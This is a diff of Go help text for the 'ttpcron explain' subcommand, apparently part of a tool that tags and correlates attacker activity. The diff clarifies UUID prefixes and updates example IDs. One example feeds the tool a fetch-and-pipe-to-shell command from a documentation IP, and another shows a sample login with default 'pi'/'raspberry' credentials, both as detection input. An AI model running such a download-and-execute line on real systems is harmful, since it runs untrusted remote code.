@@ -37,8 +37,9 @@ rule states apply.
 --tag shows where a stored tag came from: its event, the rule and version that
 made it, and which test of the rule matched what. It also says whether the
 present rule would make it, or why not. ttpcron tags --uuid shows UUIDs, and
-tags --json has those of all tags. For a correlation's tag it lists the events
-that counted, in order, and what was reached at each.
+tags --json has those of all tags; the first 8 characters will do. For a
+correlation's tag it lists the events that counted, in order, and what was
+reached at each.
 
 --correlation shows how close a group came to satisfying a correlation: when it
 came closest, and what was missing. --group names the group by its value: an
@@ -51,9 +52,9 @@ named by its source_id, which tags --json and export-events show. The search
 goes through the history from the newest day.`,
 		Examples: `ttpcron explain "cd /tmp; wget http://203.0.113.9/x.sh -O- | sh"
 echo 'cat /proc/cpuinfo' | ttpcron explain -
-ttpcron explain --tag 9aa491e5-f03b-5d8f-9eb5-161becedcdd6
-ttpcron explain --correlation TC0001 --group 203.0.113.7 --group username=root
-ttpcron explain --event sha256:3f1c26fb9c3e9d0a51d1a2f7f0a1c5be
+ttpcron explain --tag 12b85d08-9418-5441-bae2-e8c4a3b0381e
+ttpcron explain --correlation TC4009 --group 203.0.113.147
+ttpcron explain --event sha256:2f6a8413eed23838bb62c45e170e671b
 ttpcron explain --event '{"source_kind":"auth_attempt","time":"2026-05-04T05:49:05Z","attacker_ip":"203.0.113.7","payload":{"username":"pi","password":"raspberry","success":true}}'`,
 		Exits: []int{exitFailed, exitLocked, exitInterrupted},
 		Run: func(ctx context.Context, s *session, args []string) error {
